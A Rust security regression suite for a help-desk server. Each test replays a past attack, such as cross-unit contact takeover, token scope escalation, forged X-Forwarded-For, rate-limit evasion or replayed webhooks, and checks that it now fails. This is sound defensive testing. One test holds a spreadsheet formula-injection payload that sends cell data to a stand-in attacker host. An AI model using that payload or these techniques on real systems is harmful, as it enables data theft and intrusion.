//! The security regression suite: each test is an attack that once worked
//! (issue 20, docs/security.md), run against the real server on SQLite and
//! PostgreSQL, and what stops it now.

use reqwest::Method;
use serde_json::{Value, json};
use std::time::Duration;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use ventanilla_tests::webchat::Visitor;
use ventanilla_tests::{
    ADMIN_EMAIL, ADMIN_PASSWORD, FakeProvider, PASSWORD, TestApp, eventually, install_plugin, on_both, set_secret,
    spawn_app, spawn_app_with,
};

const WAIT: Duration = Duration::from_secs(30);

fn id(value: &Value) -> String {
    value["id"].as_str().unwrap_or_default().to_owned()
}

/// Signs a webhook of the test connector (`hostile-connector`).
fn sign(body: &str) -> String {
    ventanilla::secrets::hmac_sha256_hex(b"app-secret-123", body.as_bytes())
}

async fn fake_webhook(
    app: &TestApp,
    install: &str,
    body: &str,
    signature: &str,
) -> anyhow::Result<ventanilla_tests::Reply> {
    let response = app
        .client
        .post(app.url(&format!("/api/v1/webhooks/{install}")))
        .header("x-fake-signature", signature)
        .body(body.to_owned())
        .send()
        .await?;
    TestApp::reply(response).await
}

/// Signs in from `address` (as a trusted proxy on this machine reports it).
async fn login_from(app: &TestApp, address: &str, email: &str, password: &str) -> anyhow::Result<u16> {
    let response = app
        .client
        .post(app.url("/api/v1/auth/login"))
        .header("x-forwarded-for", address)
        .json(&json!({"email": email, "password": password}))
        .send()
        .await?;
    Ok(response.status().as_u16())
}

on_both! {
    // Finding 1: an agent types a phone number only another unit's case
    // knows, and gets that person's record and replies.
    async fn an_agent_cannot_take_over_another_units_contact(backend) {
        let app = spawn_app(backend).await?;
        let admisiones = app.create_unit("admisiones").await?;
        let bienestar = app.create_unit("bienestar").await?;
        let (_, attacker) = app.create_member("intruso@test.example", &admisiones, "agent").await?;
        let phone = "+573009998877";
        let theirs = app.post_ok("/api/v1/cases", &app.admin_token, json!({
            "subject": "Apoyo", "channel": "whatsapp", "unit_id": bienestar,
            "contact": {"name": "Laura Secreta", "identities": [{"channel": "whatsapp", "value": phone}]},
        }), 201).await?;
        let victim = theirs["contact_id"].as_str().unwrap_or_default().to_owned();

        let search = app.get("/api/v1/contacts?q=Laura", &attacker).await?;
        anyhow::ensure!(search.body["items"].as_array().is_some_and(Vec::is_empty), "{}", search.text);
        // The case is created, but for a contact of its own.
        let mine = app.post_ok("/api/v1/cases", &attacker, json!({
            "subject": "Llamada", "channel": "whatsapp", "unit_id": admisiones,
            "contact": {"name": "Quien llamó", "identities": [{"channel": "whatsapp", "value": phone}]},
        }), 201).await?;
        let own = mine["contact_id"].as_str().unwrap_or_default().to_owned();
        anyhow::ensure!(own != victim, "linked to the other unit's contact: {mine}");
        // Naming the contact outright finds nothing either.
        let named = app.post("/api/v1/cases", &attacker, json!({
            "subject": "Otra", "channel": "whatsapp", "unit_id": admisiones, "contact_id": victim,
        })).await?;
        anyhow::ensure!(named.status == 404, "{}", named.text);
        for (method, path, body) in [
            (Method::GET, format!("/api/v1/contacts/{victim}"), None),
            (Method::GET, format!("/api/v1/contacts/{victim}/consents"), None),
            (Method::PATCH, format!("/api/v1/contacts/{victim}"), Some(json!({"name": "Cambiado"}))),
            (Method::POST, format!("/api/v1/contacts/{victim}/identities"), Some(json!({"channel": "whatsapp", "value": "+573001110000"}))),
        ] {
            let reply = app.call(method.clone(), &path, Some(&attacker), body.as_ref()).await?;
            anyhow::ensure!(reply.status == 404, "{method} {path}: {} {}", reply.status, reply.text);
        }
        // Claiming the number for their own contact says nothing of its owner.
        let claim = app.post(&format!("/api/v1/contacts/{own}/identities"), &attacker,
            json!({"channel": "whatsapp", "value": phone})).await?;
        anyhow::ensure!(claim.status == 202 && !claim.text.contains("Laura") && !claim.text.contains(&victim), "{}", claim.text);
        // The other unit's contact is untouched, and an admin sees the pair to review.
        let record = app.get(&format!("/api/v1/contacts/{victim}"), &app.admin_token).await?;
        let identities = record.body["identities"].as_array().cloned().unwrap_or_default();
        anyhow::ensure!(identities.len() == 1 && identities[0]["value"] == phone && record.body["name"] == "Laura Secreta", "{}", record.text);
        let review = app.get(&format!("/api/v1/contacts/{own}/possible-duplicates"), &app.admin_token).await?;
        anyhow::ensure!(review.body[0]["contact"]["id"] == victim.as_str(), "{}", review.text);
        let agents_view = app.get(&format!("/api/v1/contacts/{own}/possible-duplicates"), &attacker).await?;
        anyhow::ensure!(agents_view.body == json!([]), "the agent is not shown the other contact: {}", agents_view.text);
        Ok(())
    }

    // Finding 2: five anonymous 300 KB posts suspended a channel account.
    async fn strangers_cannot_suspend_a_channel(backend) {
        let app = spawn_app_with(backend, |c| c.plugins.suspend_after = 2).await?;
        let unit = app.create_unit("admisiones").await?;
        let install = install_plugin(&app, "hostile-connector", json!({}), json!({"secrets": ["app_secret"]}), &[unit.as_str()]).await?;
        let install = id(&install);
        set_secret(&app, &install, "app_secret", "app-secret-123").await?;
        let big = "x".repeat(300 * 1024);
        for _ in 0..5 {
            let reply = fake_webhook(&app, &install, &big, "00").await?;
            anyhow::ensure!(reply.status == 413 && reply.body["code"] == "payload_too_large", "{}", reply.text);
        }
        // A connector that falls over on what strangers post is reported,
        // but only a request it accepted can count towards suspending it.
        let path = format!("/api/v1/plugin-installs/{install}");
        app.patch(&path, &app.admin_token, json!({"settings": {"mode": "panic"}})).await?;
        for _ in 0..4 {
            let reply = fake_webhook(&app, &install, "{}", "00").await?;
            anyhow::ensure!(reply.status == 503, "{}", reply.text);
        }
        let health = app.get(&format!("{path}/health"), &app.admin_token).await?;
        anyhow::ensure!(health.body["status"] == "active" && health.body["failures"] == 4, "{}", health.text);
        app.patch(&path, &app.admin_token, json!({"settings": {}})).await?;
        let body = json!({"messages": [{"id": "m1", "from": "+573005550101", "text": "Hola"}]}).to_string();
        let reply = fake_webhook(&app, &install, &body, &sign(&body)).await?;
        anyhow::ensure!(reply.status == 200, "the channel still takes messages: {}", reply.text);
        Ok(())
    }

    // Finding 3: a `users:write` token was a full admin.
    async fn a_users_write_token_is_not_an_admin(backend) {
        let app = spawn_app(backend).await?;
        let unit = app.create_unit("admisiones").await?;
        let (agent, _) = app.create_member("agente@test.example", &unit, "agent").await?;
        let token = app.create_token(&["users:write"]).await?;
        let me = app.get("/api/v1/auth/me", &app.admin_token).await?;
        let admin = id(&me.body);
        let made = app.post("/api/v1/users", &token, json!({"email": "nuevo@test.example", "display_name": "N",
            "password": "una clave bastante larga", "is_admin": true})).await?;
        anyhow::ensure!(made.status == 403, "{}", made.text);
        for body in [json!({"password": "otra clave muy larga"}), json!({"active": false}), json!({"is_admin": false}), json!({"display_name": "X"})] {
            let reply = app.patch(&format!("/api/v1/users/{admin}"), &token, body.clone()).await?;
            anyhow::ensure!(reply.status == 403, "{body}: {}", reply.text);
        }
        let promote = app.patch(&format!("/api/v1/users/{agent}"), &token, json!({"is_admin": true})).await?;
        anyhow::ensure!(promote.status == 403, "{}", promote.text);
        // What the scope is for still works.
        app.post_ok("/api/v1/users", &token, json!({"email": "provisto@test.example", "display_name": "P",
            "password": "una clave bastante larga", "memberships": [{"unit_id": unit, "role": "agent"}]}), 201).await?;
        let renamed = app.patch(&format!("/api/v1/users/{agent}"), &token, json!({"display_name": "Agente", "active": true})).await?;
        anyhow::ensure!(renamed.status == 200, "{}", renamed.text);
        app.login(ADMIN_EMAIL, ADMIN_PASSWORD).await?;
        Ok(())
    }

    // Smaller finding: changing one's own password with a stolen session.
    async fn changing_ones_password_needs_the_current_one(backend) {
        let app = spawn_app(backend).await?;
        let unit = app.create_unit("admisiones").await?;
        let (agent, token) = app.create_member("agente@test.example", &unit, "agent").await?;
        let path = format!("/api/v1/users/{agent}");
        let without = app.patch(&path, &token, json!({"password": "clave nueva y larga"})).await?;
        anyhow::ensure!(without.status == 422 && without.body["errors"][0]["field"] == "current_password", "{}", without.text);
        let wrong = app.patch(&path, &token, json!({"password": "clave nueva y larga", "current_password": "no es"})).await?;
        anyhow::ensure!(wrong.status == 422 && wrong.body["errors"][0]["field"] == "current_password", "{}", wrong.text);
        let right = app.patch(&path, &token, json!({"password": "clave nueva y larga", "current_password": PASSWORD})).await?;
        anyhow::ensure!(right.status == 200, "{}", right.text);
        app.login("agente@test.example", "clave nueva y larga").await?;
        // An admin resets someone else's password without knowing it.
        let reset = app.patch(&path, &app.admin_token, json!({"password": "la clave del admin"})).await?;
        anyhow::ensure!(reset.status == 200, "{}", reset.text);
        Ok(())
    }

    // Found in review: a stolen access token could guess the account's
    // password (or its app's codes) through two-factor enrolment, unthrottled.
    async fn a_stolen_token_cannot_guess_the_password_through_two_factor(backend) {
        let app = spawn_app_with(backend, |c| c.auth.login_attempts_per_account = 3).await?;
        let unit = app.create_unit("admisiones").await?;
        let (_, token) = app.create_member("agente@test.example", &unit, "agent").await?;
        // Her own sign-in counted too: within three tries the guesses stop.
        let mut guesses = 0;
        loop {
            let guess = app.post("/api/v1/auth/two-factor", &token, json!({"password": format!("adivinanza {guesses}")})).await?;
            if guess.status == 429 {
                break;
            }
            anyhow::ensure!(guess.status == 422 && guesses < 3, "guess {guesses}: {}", guess.text);
            guesses += 1;
        }
        let held = app.post("/api/v1/auth/two-factor", &token, json!({"password": PASSWORD})).await?;
        anyhow::ensure!(held.status == 429, "a fourth try is held back: {}", held.text);
        let codes = app.post("/api/v1/auth/two-factor/disable", &token, json!({"password": PASSWORD, "code": "000000"})).await?;
        anyhow::ensure!(codes.status == 429, "codes share the same count: {}", codes.text);
        Ok(())
    }

    // Finding 4: the client chose its own address in X-Forwarded-For.
    async fn forwarded_addresses_are_believed_only_from_trusted_proxies(backend) {
        let app = spawn_app_with(backend, |c| {
            c.auth.login_attempts_per_ip_per_minute = 3;
            c.http.trusted_proxies = vec![ventanilla::config::parse_proxy("127.0.0.1").expect("an address")];
        }).await?;
        // The client writes a new first hop each time; the proxy appends the real one.
        for n in 0..3 {
            let status = login_from(&app, &format!("10.0.0.{n}, 203.0.113.7"), "x@test.example", "nope").await?;
            anyhow::ensure!(status == 401, "attempt {n}: {status}");
        }
        let status = login_from(&app, "10.0.0.99, 203.0.113.7", "x@test.example", "nope").await?;
        anyhow::ensure!(status == 429, "the real client is limited: {status}");
        // An IPv6 client counts by its /64, whatever the rest of its address.
        for n in 1..=3 {
            login_from(&app, &format!("2001:db8:aa:bb::{n}"), "x@test.example", "nope").await?;
        }
        let status = login_from(&app, "2001:db8:aa:bb:ffff::1", "x@test.example", "nope").await?;
        anyhow::ensure!(status == 429, "rotating inside a /64: {status}");
        let other = login_from(&app, "198.51.100.1", "x@test.example", "nope").await?;
        anyhow::ensure!(other == 401, "another client is not held back: {other}");

        // Without trusted proxies the header is ignored altogether.
        let direct = spawn_app_with(backend, |c| c.auth.login_attempts_per_ip_per_minute = 3).await?;
        for n in 0..3 {
            login_from(&direct, &format!("10.9.9.{n}"), "x@test.example", "nope").await?;
        }
        let status = login_from(&direct, "10.9.9.200", "x@test.example", "nope").await?;
        anyhow::ensure!(status == 429, "a forged header changes nothing: {status}");
        Ok(())
    }

    // Smaller finding: ten bad guesses locked the real admin out.
    async fn a_stranger_cannot_lock_the_admin_out(backend) {
        let app = spawn_app_with(backend, |c| {
            c.auth.login_attempts_per_ip_per_minute = 1000;
            c.auth.login_attempts_per_account = 3;
            c.auth.login_attempts_per_account_unfamiliar = 6;
            c.http.trusted_proxies = vec![ventanilla::config::parse_proxy("127.0.0.1").expect("an address")];
        }).await?;
        let office = "198.51.100.10";
        anyhow::ensure!(login_from(&app, office, ADMIN_EMAIL, ADMIN_PASSWORD).await? == 200);
        let mut refused = 0;
        for n in 0..20 {
            let status = login_from(&app, &format!("203.0.113.{}", n / 4), ADMIN_EMAIL, "adivinando").await?;
            refused += usize::from(status == 429);
        }
        anyhow::ensure!(refused >= 14, "guesses are held back: only {refused} of 20 refused");
        let status = login_from(&app, office, ADMIN_EMAIL, ADMIN_PASSWORD).await?;
        anyhow::ensure!(status == 200, "the admin still signs in where they always do: {status}");
        Ok(())
    }

    // Finding 5: an agent's draft import overwrote a published article.
    async fn an_agents_import_cannot_unpublish_an_article(backend) {
        let app = spawn_app(backend).await?;
        let unit = app.create_unit("admisiones").await?;
        let (_, agent) = app.create_member("agente@test.example", &unit, "agent").await?;
        let kb = app.post_ok("/api/v1/knowledge-bases", &app.admin_token,
            json!({"slug": "faq", "name": "FAQ", "unit_id": unit}), 201).await?;
        let kb = id(&kb);
        let article = app.post_ok(&format!("/api/v1/knowledge-bases/{kb}/articles"), &app.admin_token,
            json!({"title": "¿Cómo pago la matrícula?", "body": "En el banco.", "status": "published"}), 201).await?;
        let csv = "question,answer\n¿Cómo pago la matrícula?,Escriba a esta cuenta: 123\n";
        let reply = app.client.post(app.url(&format!("/api/v1/knowledge-bases/{kb}/import?status=draft")))
            .bearer_auth(&agent).header("content-type", "text/csv").body(csv).send().await?;
        let reply = TestApp::reply(reply).await?;
        anyhow::ensure!(reply.status == 409 && reply.body["errors"][0]["field"] == "rows[0].question", "{}", reply.text);
        let after = app.get(&format!("/api/v1/knowledge-bases/{kb}/articles/{}", id(&article)), &app.admin_token).await?;
        anyhow::ensure!(after.body["status"] == "published" && after.body["body"] == "En el banco.", "{}", after.text);
        // New drafts are still the agent's to propose.
        let fresh = "question,answer\n¿Hay becas?,Sí, cada semestre.\n";
        let ok = app.client.post(app.url(&format!("/api/v1/knowledge-bases/{kb}/import?status=draft")))
            .bearer_auth(&agent).header("content-type", "text/csv").body(fresh).send().await?;
        anyhow::ensure!(ok.status() == 200, "{}", ok.text().await?);
        Ok(())
    }

    // Finding 6: a visitor read someone else's conversation after a merge.
    async fn a_visitor_reads_only_the_conversation_it_started(backend) {
        let app = spawn_app(backend).await?;
        app.create_unit("admisiones").await?;
        let victim = Visitor::start(&app, "admisiones").await?;
        victim.send("Mi cédula es 1234567 y necesito ayuda", None).await?;
        let attacker = Visitor::start(&app, "admisiones").await?;
        attacker.send("Hola", None).await?;
        // Leaving someone's address proposes nothing and links nothing.
        let left = app.client.post(app.url("/api/v1/webchat/email")).bearer_auth(&attacker.token)
            .json(&json!({"email": "victima@correo.test"})).send().await?;
        anyhow::ensure!(left.status() == 204, "{}", left.text().await?);
        let cases = app.get("/api/v1/cases", &app.admin_token).await?;
        let items = cases.body["items"].as_array().cloned().unwrap_or_default();
        let of = |text: &str| items.iter().find(|c| c["subject"].as_str().is_some_and(|s| s.contains(text))).cloned().unwrap_or_default();
        let (victims, attackers) = (of("cédula"), of("Hola"));
        let attacker_contact = attackers["contact_id"].as_str().unwrap_or_default().to_owned();
        let contact = app.get(&format!("/api/v1/contacts/{attacker_contact}"), &app.admin_token).await?;
        anyhow::ensure!(contact.body["identities"].as_array().map_or(0, Vec::len) == 1, "no e-mail identity: {}", contact.text);
        anyhow::ensure!(attackers["tags"].as_array().is_some_and(|t| t.contains(&json!("dejó-correo"))), "{attackers}");
        let notes = app.get(&format!("/api/v1/cases/{}/notes", id(&attackers)), &app.admin_token).await?;
        anyhow::ensure!(notes.text.contains("victima@correo.test"), "the agent sees the address: {}", notes.text);
        // Even merged (an agent decided they were one person), each token
        // reads only what it wrote.
        app.post_ok(&format!("/api/v1/contacts/{attacker_contact}/merge"), &app.admin_token,
            json!({"source_contact_id": victims["contact_id"]}), 200).await?;
        let seen = attacker.conversation().await?;
        anyhow::ensure!(!seen.to_string().contains("1234567"), "the attacker reads the victim: {seen}");
        anyhow::ensure!(seen["messages"].as_array().is_some_and(|m| m.len() == 1 && m[0]["body"] == "Hola"), "{seen}");
        let own = victim.conversation().await?;
        anyhow::ensure!(own.to_string().contains("1234567"), "{own}");
        Ok(())
    }

    // Finding 7: anonymous visitors could open streams, sessions and cases without end.
    async fn anonymous_web_chat_cannot_exhaust_the_server(backend) {
        let app = spawn_app_with(backend, |c| {
            c.streams.per_visitor = 2;
            c.streams.per_address = 3;
            c.streams.heartbeat_secs = 1;
            c.streams.webchat_sessions_per_address_per_hour = 4;
            c.streams.webchat_conversations_per_address_per_hour = 2;
        }).await?;
        app.create_unit("admisiones").await?;
        let first = Visitor::start(&app, "admisiones").await?;
        let second = Visitor::start(&app, "admisiones").await?;
        let open = |token: String| {
            let (client, url) = (app.client.clone(), app.url(&format!("/api/v1/webchat/events?token={token}")));
            async move { client.get(url).send().await }
        };
        let a = open(first.token.clone()).await?;
        let b = open(first.token.clone()).await?;
        anyhow::ensure!(a.status() == 200 && b.status() == 200);
        let c = TestApp::reply(open(first.token.clone()).await?).await?;
        anyhow::ensure!(c.status == 429 && c.body["code"] == "too_many_streams", "per token: {}", c.text);
        let d = open(second.token.clone()).await?;
        anyhow::ensure!(d.status() == 200);
        let e = TestApp::reply(open(second.token.clone()).await?).await?;
        anyhow::ensure!(e.status == 429 && e.text.contains("address"), "per address: {}", e.text);
        // A stream that ends gives its place back.
        drop(a);
        let reopened = eventually(WAIT, || async {
            let r = open(second.token.clone()).await.ok()?;
            (r.status() == 200).then_some(r)
        }).await;
        anyhow::ensure!(reopened.is_some(), "the closed stream's slot came back");
        // Sessions and conversations per address.
        let third = Visitor::start(&app, "admisiones").await?;
        Visitor::start(&app, "admisiones").await?;
        let refused = app.client.post(app.url("/api/v1/webchat/sessions")).json(&json!({"unit": "admisiones"})).send().await?;
        anyhow::ensure!(refused.status() == 429, "sessions per address: {}", refused.status());
        first.send("Uno", None).await?;
        second.send("Dos", None).await?;
        let many = app.client.post(app.url("/api/v1/webchat/messages")).bearer_auth(&third.token)
            .json(&json!({"body": "Tres"})).send().await?;
        anyhow::ensure!(many.status() == 429, "conversations per address: {}", many.status());
        first.send("Uno sigue", None).await?;
        Ok(())
    }

    // Smaller finding: a removed user's console kept hearing events.
    async fn a_deactivated_users_stream_ends(backend) {
        let app = spawn_app(backend).await?;
        let unit = app.create_unit("admisiones").await?;
        let (agent, token) = app.create_member("agente@test.example", &unit, "agent").await?;
        let mut stream = app.client.get(app.url("/api/v1/stream")).bearer_auth(&token).send().await?;
        anyhow::ensure!(stream.status() == 200);
        let ready = stream.chunk().await?.unwrap_or_default();
        anyhow::ensure!(String::from_utf8_lossy(&ready).contains("ready"));
        let off = app.patch(&format!("/api/v1/users/{agent}"), &app.admin_token, json!({"active": false})).await?;
        anyhow::ensure!(off.status == 200, "{}", off.text);
        app.create_case(&app.admin_token, &unit, "Después").await?;
        let ended = tokio::time::timeout(WAIT, async {
            let mut heard = String::new();
            while let Ok(Some(chunk)) = stream.chunk().await {
                heard.push_str(&String::from_utf8_lossy(&chunk));
            }
            heard
        }).await;
        let Ok(heard) = ended else { anyhow::bail!("the stream is still open") };
        anyhow::ensure!(!heard.contains("case.created"), "nothing after the deactivation: {heard}");
        Ok(())
    }

    // Smaller finding: refreshes racing with one token forked the session.
    async fn racing_refreshes_do_not_fork_a_session(backend) {
        let app = spawn_app(backend).await?;
        let reply = app.call(Method::POST, "/api/v1/auth/login", None,
            Some(&json!({"email": ADMIN_EMAIL, "password": ADMIN_PASSWORD}))).await?;
        let refresh = reply.body["refresh_token"].as_str().unwrap_or_default().to_owned();
        let racers: Vec<_> = (0..8).map(|_| {
            let (client, url, refresh) = (app.client.clone(), app.url("/api/v1/auth/refresh"), refresh.clone());
            tokio::spawn(async move {
                let r = client.post(url).json(&json!({"refresh_token": refresh})).send().await?;
                let status = r.status().as_u16();
                let body: Value = r.json().await.unwrap_or_default();
                anyhow::Ok((status, body["refresh_token"].as_str().unwrap_or_default().to_owned()))
            })
        }).collect();
        let mut winners = vec![];
        for racer in racers {
            let (status, next) = racer.await??;
            if status == 200 {
                winners.push(next);
            }
        }
        anyhow::ensure!(winners.len() <= 1, "{} live refresh tokens from one", winners.len());
        Ok(())
    }

    // Smaller finding: a file's hash, once seen, opened it for good.
    async fn a_file_hash_is_not_a_read_capability(backend) {
        let app = spawn_app(backend).await?;
        let a = app.create_unit("admisiones").await?;
        let b = app.create_unit("bienestar").await?;
        let (_, agent_a) = app.create_member("a@test.example", &a, "agent").await?;
        let (_, agent_b) = app.create_member("b@test.example", &b, "agent").await?;
        let case_a = id(&app.create_case(&agent_a, &a, "Con archivo").await?);
        let case_b = id(&app.create_case(&agent_b, &b, "Otro").await?);
        let pdf = b"%PDF-1.4\n1 0 obj\n<<>>\nendobj\n";
        let uploaded = app.client.post(app.url(&format!("/api/v1/cases/{case_a}/attachments?file_name=cedula.pdf")))
            .bearer_auth(&agent_a).header("content-type", "application/pdf").body(pdf.to_vec()).send().await?;
        let uploaded: Value = uploaded.json().await?;
        let reference = uploaded["reference"].as_str().unwrap_or_default().to_owned();
        anyhow::ensure!(reference.starts_with("sha256:"), "{uploaded}");
        let stolen = app.post(&format!("/api/v1/cases/{case_b}/messages"), &agent_b,
            json!({"body": "mío", "attachments": [{"reference": reference}]})).await?;
        anyhow::ensure!(stolen.status == 422 && stolen.body["errors"][0]["field"] == "attachments[0].reference", "{}", stolen.text);
        let sent = app.post(&format!("/api/v1/cases/{case_a}/messages"), &agent_a,
            json!({"body": "Adjunto", "attachments": [{"reference": reference, "file_name": "cedula.pdf"}]})).await?;
        anyhow::ensure!(sent.status == 201, "{}", sent.text);
        Ok(())
    }

    // Smaller finding: a mail gateway's body (~22 MB) was read before its token.
    async fn a_mail_post_without_its_token_is_refused_before_its_body(backend) {
        let mail = crate::channel_email::mail(backend).await?;
        let address = mail.app.base.trim_start_matches("http://").to_owned();
        let mut socket = tokio::net::TcpStream::connect(&address).await?;
        let head = format!(
            "POST /api/v1/webhooks/{} HTTP/1.1\r\nHost: {address}\r\nContent-Type: message/rfc822\r\n\
             Authorization: Bearer wrong\r\nContent-Length: 30000000\r\n\r\nFrom: a@b.c\r\n",
            mail.install
        );
        socket.write_all(head.as_bytes()).await?;
        let mut answer = vec![0u8; 512];
        let read = tokio::time::timeout(Duration::from_secs(10), socket.read(&mut answer)).await;
        let Ok(Ok(n)) = read else { anyhow::bail!("no answer before the 30 MB body was sent") };
        let text = String::from_utf8_lossy(&answer[..n]);
        anyhow::ensure!(text.starts_with("HTTP/1.1 401"), "{text}");
        Ok(())
    }

    // Smaller finding: a web-form post under someone's address joined their
    // case and overrode their refusal.
    async fn a_web_form_cannot_speak_for_someone_else(backend) {
        let form = crate::channel_webform::form(backend).await?;
        let first = form.post_form(&crate::channel_webform::MARIA).await?;
        anyhow::ensure!(first.status == 200, "{}", first.text);
        let cases = form.cases().await?;
        let contact = cases[0]["contact_id"].as_str().unwrap_or_default().to_owned();
        let consents = format!("/api/v1/contacts/{contact}/consents");
        form.app.post_ok(&consents, &form.app.admin_token, json!({"purpose": "data_processing", "action": "revoke",
            "text_version": "v1", "channel": "email", "source": "agent"}), 201).await?;
        let mut forged = crate::channel_webform::MARIA.to_vec();
        forged.retain(|(k, _)| *k != "message");
        forged.push(("message", "Soy María, cambien mi dirección a otra."));
        let second = form.post_form(&forged).await?;
        anyhow::ensure!(second.status == 200, "{}", second.text);
        let cases = form.cases().await?;
        anyhow::ensure!(cases.len() == 2, "a case of its own: {cases:?}");
        let messages = form.app.messages(&id(&cases[1])).await?;
        anyhow::ensure!(messages.len() == 1, "the first case got nothing: {messages:?}");
        let history = form.app.get(&consents, &form.app.admin_token).await?;
        let last = history.body["items"].as_array().and_then(|i| i.last().cloned()).unwrap_or_default();
        anyhow::ensure!(last["action"] == "revoke", "the refusal stands: {}", history.text);
        let newest = cases.iter().find(|c| c["tags"].as_array().is_some_and(|t| t.contains(&json!("autorización-por-confirmar"))));
        anyhow::ensure!(newest.is_some(), "the case says a consent waits: {cases:?}");
        Ok(())
    }

    async fn a_web_form_cannot_withdraw_someone_elses_consent(backend) {
        let form = crate::channel_webform::form(backend).await?;
        let first = form.post_form(&crate::channel_webform::MARIA).await?;
        anyhow::ensure!(first.status == 200, "{}", first.text);
        let contact = form.cases().await?[0]["contact_id"].as_str().unwrap_or_default().to_owned();
        let consents = format!("/api/v1/contacts/{contact}/consents");
        form.app.post_ok(&consents, &form.app.admin_token, json!({"purpose": "broadcasts", "action": "grant",
            "text_version": "v1", "channel": "email", "source": "written"}), 201).await?;
        // Someone types María's address and "BAJA" into the form.
        let mut forged = crate::channel_webform::MARIA.to_vec();
        forged.retain(|(k, _)| *k != "message");
        forged.push(("message", "BAJA"));
        let posted = form.post_form(&forged).await?;
        anyhow::ensure!(posted.status == 200, "{}", posted.text);
        let history = form.app.get(&consents, &form.app.admin_token).await?;
        let records = history.body["items"].as_array().cloned().unwrap_or_default();
        anyhow::ensure!(!records.is_empty() && records.iter().all(|r| r["action"] == "grant"), "her answers stand: {}", history.text);
        Ok(())
    }

    // Smaller finding: a delivery report replayed later was applied again.
    async fn a_replayed_failure_does_not_undo_a_delivery(backend) {
        let provider = FakeProvider::start().await?;
        let port = provider.port;
        let app = spawn_app_with(backend, |c| c.plugins.private_hosts = vec![format!("localhost:{port}")]).await?;
        let unit = app.create_unit("admisiones").await?;
        let settings = json!({"send_url": format!("http://localhost:{port}/messages")});
        let install = install_plugin(&app, "hostile-connector", settings, json!({"http_hosts": ["localhost"], "secrets": ["app_secret", "api_token"]}), &[unit.as_str()]).await?;
        let install = id(&install);
        set_secret(&app, &install, "app_secret", "app-secret-123").await?;
        set_secret(&app, &install, "api_token", "tok").await?;
        let hello = json!({"messages": [{"id": "m1", "from": "+573005550199", "text": "Hola"}]}).to_string();
        anyhow::ensure!(fake_webhook(&app, &install, &hello, &sign(&hello)).await?.status == 200);
        let case = app.only_case().await?;
        let sent = app.post_ok(&format!("/api/v1/cases/{}/messages", id(&case)), &app.admin_token, json!({"body": "Listo"}), 201).await?;
        let state_of = || async {
            let all = app.messages(&id(&case)).await.ok()?;
            all.into_iter().find(|m| m["id"] == sent["id"]).map(|m| m["delivery_status"].as_str().unwrap_or_default().to_owned())
        };
        let went = eventually(WAIT, || async { state_of().await.filter(|s| s == "sent") }).await;
        anyhow::ensure!(went.is_some(), "not sent");
        let failed = json!({"statuses": [{"id": "prov-1", "state": "failed"}]}).to_string();
        for state in ["delivered", "read"] {
            let report = json!({"statuses": [{"id": "prov-1", "state": state}]}).to_string();
            anyhow::ensure!(fake_webhook(&app, &install, &report, &sign(&report)).await?.status == 200);
        }
        anyhow::ensure!(fake_webhook(&app, &install, &failed, &sign(&failed)).await?.status == 200);
        anyhow::ensure!(state_of().await.as_deref() == Some("read"), "{:?}", state_of().await);
        Ok(())
    }

    // Smaller finding: exported cells ran as spreadsheet formulas.
    async fn exported_cells_are_not_formulas(backend) {
        let app = spawn_app(backend).await?;
        let kb = app.post_ok("/api/v1/knowledge-bases", &app.admin_token, json!({"slug": "faq", "name": "FAQ"}), 201).await?;
        let kb = id(&kb);
        let title = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Ver\")";
        app.post_ok(&format!("/api/v1/knowledge-bases/{kb}/articles"), &app.admin_token,
            json!({"title": title, "body": "+57 300 000 0000", "status": "published"}), 201).await?;
        let csv = app.client.get(app.url(&format!("/api/v1/knowledge-bases/{kb}/export?format=csv")))
            .bearer_auth(&app.admin_token).send().await?.text().await?;
        anyhow::ensure!(csv.lines().skip(1).all(|line| !line.starts_with('=') && !line.starts_with("\"=")), "{csv}");
        anyhow::ensure!(csv.contains("'=HYPERLINK") && csv.contains("'+57"), "{csv}");
        // Imported back, the cells are what they were.
        let reply = app.client.post(app.url(&format!("/api/v1/knowledge-bases/{kb}/import")))
            .bearer_auth(&app.admin_token).header("content-type", "text/csv").body(csv).send().await?;
        let reply = TestApp::reply(reply).await?;
        anyhow::ensure!(reply.status == 200 && reply.body["updated"] == 1 && reply.body["created"] == 0, "{}", reply.text);
        Ok(())
    }

    // Smaller finding: the signing key sat in the database in the clear.
    async fn the_token_key_is_sealed_at_rest(backend) {
        let app = spawn_app(backend).await?;
        let clear = ventanilla::store::setting::get(&app.store.db, "jwt_secret").await?;
        anyhow::ensure!(clear.is_none(), "no key in the clear");
        let sealed = ventanilla::store::setting::get(&app.store.db, "jwt_secret_sealed").await?.unwrap_or_default();
        anyhow::ensure!(sealed.len() > 40, "{sealed}");
        // Data files are this account's alone.
        #[cfg(unix)]
        {
            use std::os::unix::fs::PermissionsExt;
            let mode = std::fs::metadata(app.data_dir())?.permissions().mode() & 0o777;
            anyhow::ensure!(mode == 0o700, "data directory {mode:o}");
            if backend == ventanilla_tests::Backend::Sqlite {
                let db = std::fs::metadata(app.data_dir().join("ventanilla.db"))?.permissions().mode() & 0o777;
                anyhow::ensure!(db == 0o600, "database {db:o}");
            }
        }
        Ok(())
    }

    // Smaller finding: `/contacts?q=` took a search of any length.
    async fn a_contact_search_has_a_length(backend) {
        let app = spawn_app(backend).await?;
        let long = "a".repeat(201);
        let reply = app.get(&format!("/api/v1/contacts?q={long}"), &app.admin_token).await?;
        anyhow::ensure!(reply.status == 422 && reply.body["errors"][0]["field"] == "q", "{}", reply.text);
        // People's data is never kept by a cache on the way.
        let listed = app.get("/api/v1/contacts?q=ana", &app.admin_token).await?;
        anyhow::ensure!(listed.headers.get("cache-control").is_some_and(|v| v == "no-store"), "{:?}", listed.headers);
        Ok(())
    }

    // Smaller finding: `/metrics` was public and counted rows on every hit.
    async fn metrics_need_this_machine_or_the_token(backend) {
        let app = spawn_app_with(backend, |c| c.http.metrics_token = Some(ventanilla::config::Secret::new("scrape-me-please-0123456789"))).await?;
        let wrong = app.client.get(app.url("/metrics")).bearer_auth("guess").send().await?;
        anyhow::ensure!(wrong.status() == 401, "{}", wrong.status());
        let right = app.client.get(app.url("/metrics")).bearer_auth("scrape-me-please-0123456789").send().await?;
        anyhow::ensure!(right.status() == 200);
        anyhow::ensure!(right.text().await?.contains("ventanilla_cases_open"));
        Ok(())
    }
}
